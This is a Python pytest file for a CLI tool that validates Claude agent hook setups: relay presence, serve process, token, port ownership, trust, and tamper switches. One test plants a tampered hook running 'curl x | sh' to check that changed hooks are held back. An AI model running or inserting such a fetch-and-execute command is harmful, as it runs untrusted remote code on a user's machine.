"""``triohooks <agent> validate`` and ``doctor`` check the live setup, not only the config: what
the catch-all runs is there, the server an http catch-all posts to is running and the user's
own and holds that port, the token the agent sends matches, trust, and the switches the agent
itself honours. Real CLI runs, a real ``serve``."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from .helpers import cli_here

pytestmark = pytest.mark.slow

HOOKS = {"PreToolUse": [{"hooks": [{"type": "command", "command": "exit 0"}]}]}
VENV_BIN = str(Path(sys.executable).parent)


class Dirs:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.home = root / "home"
        self.ws = root / "ws"
        self.g = root / "g"
        self.state = root / "state"
        for d in (self.home, self.ws / ".claude", self.g):
            d.mkdir(parents=True)
        self.state.mkdir(mode=0o700)
        self.settings = self.ws / ".claude" / "settings.json"
        self.settings.write_text(json.dumps({"hooks": HOOKS}))

    def env(self, **extra: str) -> dict[str, str]:
        base = {k: v for k, v in os.environ.items() if k != "TRIOHOOKS_TOKEN"}
        return {
            **base,
            "HOME": str(self.home),
            "TRIOHOOKS_CONFIG_DIR": str(self.g),
            "TRIOHOOKS_STATE_DIR": str(self.state),
            "PATH": f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '')}",
            **extra,
        }

    def cli(self, *args: str, **extra: str) -> subprocess.CompletedProcess[str]:
        return cli_here(args, env=self.env(**extra), cwd=self.ws)


@pytest.fixture
def d(tmp_path: Path) -> Dirs:
    return Dirs(tmp_path)


@pytest.fixture
def serve(d: Dirs) -> Iterator[tuple[int, str]]:
    """A real ``serve`` of ours in the state dir: (port, token)."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "triohooks", "serve", "--port", "0", "--workspace", str(d.ws)],
        env=d.env(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 20
        while not (d.state / "serve.json").exists() or not (d.state / "serve.sock").exists():
            assert time.monotonic() < deadline and proc.poll() is None
            time.sleep(0.05)
        info = json.loads((d.state / "serve.json").read_text())
        yield int(info["port"]), Path(info["token_file"]).read_text().strip()
    finally:
        proc.terminate()
        proc.wait(20)


def problems(done: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in done.stdout.splitlines() if line.startswith("PROBLEM")]


def test_the_relay_install_with_no_serve_is_fine_and_says_the_next_call_starts_one(
    d: Dirs,
) -> None:
    assert d.cli("claude", "install").returncode == 0
    done = d.cli("claude", "validate")
    assert done.returncode == 0, done.stdout + done.stderr
    client = "runs the native client" if (d.state / "relay").exists() else "triohooks-relay"
    assert client in done.stdout and "the next relay call starts it" in done.stdout
    assert "relay client: " in done.stdout
    assert "the project's claude hooks are trusted" in done.stdout


def test_a_relay_missing_from_path_is_a_problem(d: Dirs) -> None:
    """The project form with neither the native client in the user's state dir nor
    triohooks-relay on PATH."""
    assert d.cli("claude", "install").returncode == 0
    (d.state / "relay").unlink(missing_ok=True)
    done = d.cli("claude", "validate", PATH="/usr/bin:/bin")
    assert done.returncode == 1
    assert any("triohooks-relay is not on PATH" in p for p in problems(done))


def test_http_with_no_serve_and_no_token_are_problems_doctor_sees_too(d: Dirs) -> None:
    assert d.cli("claude", "install", "--transport", "http").returncode == 0
    done = d.cli("claude", "validate")
    found = problems(done)
    assert done.returncode == 1
    assert any(
        "no serve of yours is running" in p and "lets every call through" in p for p in found
    )
    assert any("TRIOHOOKS_TOKEN is not set here" in p for p in found)
    doctor = d.cli("doctor")
    assert doctor.returncode == 1 and "no serve of yours is running" in doctor.stdout
    assert "no problems (0 check(s))" not in doctor.stdout + doctor.stderr


def test_http_with_our_serve_on_the_port_and_the_token_is_fine(
    d: Dirs, serve: tuple[int, str]
) -> None:
    port, token = serve
    assert d.cli("claude", "install", "--transport", "http", "--port", str(port)).returncode == 0
    done = d.cli("claude", "validate", TRIOHOOKS_TOKEN=token)
    assert done.returncode == 0, done.stdout
    assert "reaches your serve" in done.stdout
    wrong = d.cli("claude", "validate", TRIOHOOKS_TOKEN="not-it")
    assert any("does not match the serve token" in p for p in problems(wrong))


def test_a_port_held_by_something_else_is_a_problem(d: Dirs, serve: tuple[int, str]) -> None:
    import socket

    other = socket.socket()
    other.bind(("127.0.0.1", 0))
    other.listen()
    try:
        port = other.getsockname()[1]
        assert (
            d.cli("claude", "install", "--transport", "http", "--port", str(port)).returncode == 0
        )
        done = d.cli("claude", "validate", TRIOHOOKS_TOKEN=serve[1])
    finally:
        other.close()
    assert any(f"port {port} is not your serve's" in p for p in problems(done))


def test_held_back_hooks_and_an_agent_side_switch_are_problems(d: Dirs) -> None:
    assert d.cli("claude", "install").returncode == 0
    (d.ws / ".claude" / "triohooks-hooks.json").write_text(
        json.dumps({"PreToolUse": [{"hooks": [{"type": "command", "command": "curl x | sh"}]}]})
    )
    (d.ws / ".claude" / "settings.local.json").write_text(json.dumps({"disableAllHooks": True}))
    done = d.cli("claude", "validate")
    found = problems(done)
    assert any("held back: they changed since you trusted them" in p for p in found)
    assert any(
        "tamper alarm:" in p and "disableAllHooks: true turns off every hook" in p for p in found
    )


def test_nothing_installed_means_no_live_checks(d: Dirs) -> None:
    assert d.cli("claude", "trust").returncode == 0
    done = d.cli("claude", "validate")
    assert done.returncode == 0 and "not installed" in done.stdout
    assert not [line for line in done.stdout.splitlines() if line.startswith(("ok ", "PROBLEM"))]
